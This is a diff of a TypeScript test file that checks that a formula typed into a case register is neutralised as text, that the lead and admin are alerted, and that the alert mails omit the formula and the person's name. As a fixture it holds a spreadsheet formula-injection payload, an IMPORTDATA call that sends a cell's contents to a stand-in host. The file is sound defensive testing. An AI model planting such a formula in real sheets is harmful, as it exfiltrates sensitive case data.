@@ -1,30 +1,32 @@
 /** A formula that a person typed into a register: text within the hour, lead and admin told, and what is told holds nothing of it. */
 import { expect, test } from "vitest";
-import { mainRegister } from "../../scripts/play/register-cells";
 import { applied } from "../../scripts/workspace/sheets/requests/batch-update";
 import { sheetsSlice } from "../../scripts/workspace/sheets/store";
 import type { TabId } from "../../src/register/columns";
-import { Day, report } from "../situations/day-stage";
+import { Day } from "../day/day";
+import { reportOn, tick } from "../day/events";
+import { recipients } from "../day/look";
+import { admin, contact, lead } from "../day/people";
 
 const leaks = '=IMPORTDATA("https://a.example/?q="&Cases!H3)';
 const told = (day: Day) => day.out().inbox.filter(({ message }) => message === "formula-found");
 
 /** The cells of a tab of the main register that hold a formula, as the sheet keeps them. */
 function formulas(day: Day): readonly string[] {
-  const { store } = day.workspace;
-  const spreadsheet = sheetsSlice(store).spreadsheets[mainRegister(store)];
-  return (spreadsheet?.sheets ?? []).flatMap(({ properties, rows }) =>
-    properties.title === "Summary"
-      ? []
-      : rows.flatMap((row) =>
-          (row?.values ?? []).flatMap((value) =>
-            typeof value === "object" && value !== null ? [value.formula] : [],
+  return day
+    .register()
+    .sheets.flatMap(({ properties, rows }) =>
+      properties.title === "Summary"
+        ? []
+        : rows.flatMap((row) =>
+            (row?.values ?? []).flatMap((value) =>
+              typeof value === "object" && value !== null ? [value.formula] : [],
+            ),
           ),
-        ),
-  );
+    );
 }
 
-const alex = report("Alex Doe", "1001");
+const alex = reportOn("Alex Doe", "1001");
 const edited = (tab: TabId, set: object) => ({
   edit: { tab, case: "26-0001", set },
   as: "contact",
@@ -32,28 +34,14 @@ const edited = (tab: TabId, set: object) => ({
 
 test.each<[string, object]>([
   ["notes of a case", edited("cases", { notes: leaks })],
-  [
-    "notes of an act",
-    {
-      edit: {
-        tab: "checklist",
-        case: "26-0001",
-        act: "call-child-and-family-services",
-        set: { notes: leaks },
-      },
-      as: "contact",
-    },
-  ],
+  ["notes of an act", tick("call-child-and-family-services", { notes: leaks }, "contact")],
 ])("in %s", async (_, event) => {
   const day = await Day.begin();
   day.play(alex, event);
   day.play({ advance: "PT65M" });
   expect(formulas(day)).toEqual([]);
   const mails = told(day);
-  expect(mails.flatMap(({ to }) => to).sort()).toEqual([
-    "admin@district.example",
-    "lead@district.example",
-  ]);
+  expect(recipients(mails)).toEqual([admin, lead]);
   for (const { text, html } of mails)
     expect(`${text}${html}`).not.toMatch(/IMPORTDATA\(|a\.example|Alex/);
   const lines = day.out().activity.filter(({ what }) => what === "formula-made-text");
@@ -81,11 +69,8 @@ test("what was typed is kept as text, with a note, and in Notes accepted like an
 test("in a tab of a person's own, whose title stands in no mail", async () => {
   const day = await Day.begin();
   day.play(alex);
-  const { store } = day.workspace;
-  const slice = sheetsSlice(store);
-  const id = mainRegister(store);
-  const spreadsheet = slice.spreadsheets[id];
-  if (spreadsheet === undefined) throw new Error("no register");
+  const slice = sheetsSlice(day.workspace.store);
+  const id = day.fileId("main");
   const properties = {
     sheetId: 900,
     title: "About Alex Doe",
@@ -93,7 +78,7 @@ test("in a tab of a person's own, whose title stands in no mail", async () => {
   };
   const cell = { userEnteredValue: { formulaValue: leaks } };
   slice.spreadsheets[id] = applied(
-    spreadsheet,
+    day.register(),
     [
       { addSheet: { properties } },
       {
@@ -105,7 +90,7 @@ test("in a tab of a person's own, whose title stands in no mail", async () => {
       },
     ],
     {
-      actor: { address: "contact@district.example", owner: "admin@district.example" },
+      actor: { address: contact, owner: admin },
       assume: {},
       mustTake: () => undefined,
       countWritten: () => undefined,
@@ -126,11 +111,7 @@ test("an ordinary hour has no such line, and Summary keeps its formulas", async 
     advance: "PT130M",
   });
   expect(told(day)).toEqual([]);
-  const { store } = day.workspace;
-  const summary = sheetsSlice(store).spreadsheets[mainRegister(store)]?.sheets.find(
-    ({ properties }) => properties.title === "Summary",
-  );
-  expect(JSON.stringify(summary?.rows)).toContain('"formula":"=');
+  expect(JSON.stringify(day.tab("summary").sheet.rows)).toContain('"formula":"=');
 });
 
 test.each(["before", "after", "stop"] as const)(
